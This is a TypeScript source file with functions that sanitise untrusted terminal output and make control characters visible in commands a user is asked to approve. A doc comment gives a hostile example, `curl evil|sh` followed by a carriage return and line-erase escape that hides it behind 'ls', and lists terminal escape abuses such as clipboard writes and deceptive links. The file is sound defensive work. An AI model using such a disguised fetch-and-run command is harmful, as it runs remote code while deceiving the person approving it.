/**
 * Text a program the app does not control wrote (a container's console log), made safe to print
 * on the user's own terminal: a terminal obeys escape sequences, and some of them act outside the
 * text (OSC 52 writes the clipboard, OSC 8 makes a link whose text lies about its target, a
 * title, DCS/APC strings some terminals act on, cursor moves that paint over earlier lines).
 * Colours (SGR) are kept; every other sequence goes; \r\n and a lone \r become \n; other control
 * characters show as `?`; a \r that ends the text goes. Newlines and tabs stay.
 */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const TOKEN = /(?:\u001b[\]PX^_]|[\u0090\u0098\u009d-\u009f])[\s\S]*?(?:\u0007|\u001b\\|\u009c|$)|(?:\u001b\[|\u009b)[0-?]*[ -/]*[@-~]|\u001b[ -/]*[0-~]?|\r\n?|[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g;
// eslint-disable-next-line no-control-regex -- an SGR (colour) sequence, kept
const SGR = /^\u001b\[[0-9;:]*m$/;

export function terminalSafe(text: string): string {
  return text.replace(TOKEN, (t, at: number) => {
    if (SGR.test(t)) return t;
    // A line's own \r\n ending, its \n already split off by the caller: nothing.
    if (t === '\r' && at === text.length - 1) return '';
    if (t[0] === '\r') return '\n';
    if (t.length === 1 && t !== '\u001b') return '?';
    return '';
  });
}

/**
 * Stricter, for what the user is asked to approve (a command, a diff): every control character is
 * shown, none acts — an escape as ␛, a carriage return as ␍, others as `?` — so a command that
 * would repaint its own line (`curl evil|sh\r\u001b[2Kls`) reads as what it is. Newlines and tabs stay.
 */
export function terminalVisible(text: string): string {
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  return text.replace(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g, (c) => (c === '\u001b' ? '␛' : c === '\r' ? '␍' : '?'));
}
